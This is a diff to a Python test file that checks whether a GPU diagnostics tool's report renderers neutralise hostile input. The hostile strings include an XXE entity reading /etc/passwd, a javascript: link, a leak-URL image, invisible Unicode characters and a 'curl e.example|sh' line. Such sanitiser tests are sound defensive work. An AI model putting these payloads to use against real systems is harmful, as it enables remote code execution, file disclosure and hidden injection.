@@ -22,7 +22,9 @@ from gpucheck.facts import Section
 from gpucheck.facts.preflight import Bandwidth
 from gpucheck.facts.sections import all_sections
 from gpucheck.facts.selftests import SelfTests
-from gpucheck.facts.snapshot import ProbeRun, ProbeRuns, Snapshot
+from gpucheck.facts.snapshot import Origin, ProbeRun, ProbeRuns, Snapshot, decode
+from gpucheck.language import Sentence
+from gpucheck.language.visible import is_visible
 from gpucheck.output import (
     batch_summary,
     json_format,
@@ -41,6 +43,7 @@ from gpucheck.output.diff import Change
 from gpucheck.output.html import diff as html_diff
 from gpucheck.output.html import preflight as html_preflight
 from gpucheck.output.html import report as html_report
+from gpucheck.ticket.judge import judge_saved
 from gpucheck.ticket.tally import CauseCount, Tally
 
 HOSTILE = [
@@ -52,7 +55,11 @@ HOSTILE = [
     "]]></failure><!-- <?xml x?> <!DOCTYPE y [<!ENTITY z SYSTEM 'file:///etc/passwd'>]>",
     "![x](http://x/?leak) [y](javascript:z) @all #1 GH-1 ```\n# head\n| a | b |\n```sh",
     'x"} 1\n# TYPE y gauge\ny{a="\\',
+    "x\n\n![p](http://e.example/p.png)\n\n# head\n\nfixes #4 @all\n\n```sh\ncurl e.example|sh\n```\n",
+    "a\U000e0041\U000e0049b\U000e0100\ufe0f\u3164\u2800\u115f\u034f\U00013441c",  # read, not seen
 ]
+WORDS = [*HOSTILE, *map(Sentence, HOSTILE), *(Sentence("{x}", {"x": word}) for word in HOSTILE)]
+"""Each as text, as a template, and as the parameter of one: none of the types is trusted."""
 _SGR = re.compile(r"\x1b\[[0-9;]{1,8}m")
 _LITERAL = re.compile(r"(?ms)^(`{3,})sh$.*?^\1$|\\.|(`+)[^`\n]*\2")
 """What Markdown takes literally: a block of code, an escaped character, a span of code."""
@@ -66,9 +73,10 @@ def filled(kind: type[Section], word: str) -> Section:
         if field in kind.__struct_fields__ and field not in ("sources", "problems"):
             for value in (word, [word], (word,), {word: word}):
                 try:
-                    fields[field] = msgspec.convert(value, type=hint)
+                    msgspec.convert(value, type=hint)
                 except (msgspec.ValidationError, UnicodeEncodeError):
                     continue
+                fields[field] = value  # convert would make a text of a sentence
                 break
     return kind(**fields, sources={"*": word}, problems={"*": word})
 
@@ -121,7 +129,7 @@ MARKDOWN: dict[str, Callable[[Report], str]] = {
 
 def shows_nothing_hidden(text: str) -> None:
     plain = _SGR.sub("", text)
-    assert [char for char in plain if not char.isprintable() and char != "\n"] == []
+    assert [char for char in plain if not is_visible(char) and char != "\n"] == []
 
 
 def is_harmless_html(text: str) -> None:
@@ -133,30 +141,80 @@ def is_harmless_html(text: str) -> None:
 def is_harmless_markdown(text: str) -> None:
     shows_nothing_hidden(text)
     outside = _LITERAL.sub("", text)
-    for word in ("<b>", "<script", "<img", "](", "@all", "`", "<!--"):
+    for word in ("<b>", "<script", "<img", "](", "@all", "`", "<!--", "://", "#1", "#4"):
         assert word not in outside
     assert "# head" not in outside.splitlines()
 
 
+def is_harmless(report: Report) -> None:
+    """Whether no face of a report passes anything on."""
+    for render in TEXT.values():
+        shows_nothing_hidden(render(report))
+    for render in MARKDOWN.values():
+        is_harmless_markdown(render(report))
+    is_harmless_html(html_report.render(report))
+    text = junit.render(report)
+    shows_nothing_hidden(text)
+    ET.fromstring(text)  # noqa: S314  # our own
+    data = json_format.render(report)
+    shows_nothing_hidden(data)
+    json.loads(data)
+
+
 @pytest.mark.hostile
-@pytest.mark.parametrize("word", HOSTILE)
+@pytest.mark.parametrize("word", WORDS)
 def test_reports(word: str) -> None:
     for report in reports(word):
-        for render in TEXT.values():
-            shows_nothing_hidden(render(report))
-        for render in MARKDOWN.values():
-            is_harmless_markdown(render(report))
-        is_harmless_html(html_report.render(report))
-        text = junit.render(report)
-        shows_nothing_hidden(text)
-        ET.fromstring(text)  # noqa: S314  # our own
-        data = json_format.render(report)
-        shows_nothing_hidden(data)
-        json.loads(data)
+        is_harmless(report)
+
+
+def forged(data: Any, word: str) -> Any:  # noqa: ANN401  # JSON-like data
+    """Return a document in which each sentence has this word as its template."""
+    if isinstance(data, list):
+        return [forged(one, word) for one in data]
+    if not isinstance(data, dict):
+        return data
+    if not isinstance(data.get("said"), dict):
+        return {key: forged(value, word) for key, value in data.items()}
+    return {
+        key: value if key == "said" else forged(value, word) for key, value in data.items()
+    } | {
+        field: _all_texts(data[field], word) for field in data["said"] if field in data
+    } | {"said": {field: _all_texts(one, {"key": word, "params": {}})
+                  for field, one in data["said"].items()}}  # fmt: skip
+
+
+def _all_texts(value: Any, word: Any) -> Any:  # noqa: ANN401  # JSON-like data
+    """Return lists and notes with the word at each of their texts, or of their sentences."""
+    if isinstance(value, list):
+        return [word for _one in value]
+    if isinstance(value, dict) and "key" not in value:
+        return dict.fromkeys(value, word)
+    return word
 
 
 @pytest.mark.hostile
 @pytest.mark.parametrize("word", HOSTILE)
+@pytest.mark.parametrize(
+    "sample", [report_samples.healthy, report_samples.unknown, report_samples.old_driver]
+)
+def test_forged_sentences_of_a_saved_report(sample: Callable[[], Report], word: str) -> None:
+    document = json.dumps(forged(json.loads(json_format.render(sample())), word))
+    assert json.dumps(word)[1:-1] in document
+    if "\ud800" in word:
+        with pytest.raises(msgspec.DecodeError):
+            decode(document.encode())
+        return
+    snapshot = decode(document.encode())
+    for origin in ("live", "pasted"):
+        snapshot.origin = typing.cast("Origin", origin)
+        report = judge_saved(snapshot, TABLES)
+        is_harmless(report)
+        assert "curl" not in "".join(line for line in ticket_reply.reply(report).split("```")[1::2])
+
+
+@pytest.mark.hostile
+@pytest.mark.parametrize("word", WORDS)
 def test_preflights(word: str) -> None:
     for found in preflights(word):
         for color in (False, True):
@@ -191,7 +249,7 @@ def test_the_summary_of_a_batch(word: str) -> None:
     shows_nothing_hidden(batch_summary.as_csv(tally(word)))
 
 
-@pytest.mark.parametrize("word", HOSTILE)
+@pytest.mark.parametrize("word", WORDS)
 def test_the_plots_of_selftests(word: str) -> None:
     stress = html_samples.stress()
     tests = stress.snapshot.get(SelfTests)
@@ -211,7 +269,7 @@ def test_the_plots_of_selftests(word: str) -> None:
     is_harmless_html(html_report.render(msgspec.structs.replace(stress, snapshot=snapshot)))
 
 
-@pytest.mark.parametrize("word", HOSTILE)
+@pytest.mark.parametrize("word", WORDS)
 def test_a_diff(word: str) -> None:
     old, new = report_samples.healthy(), reports(word)[0]
     changes = [
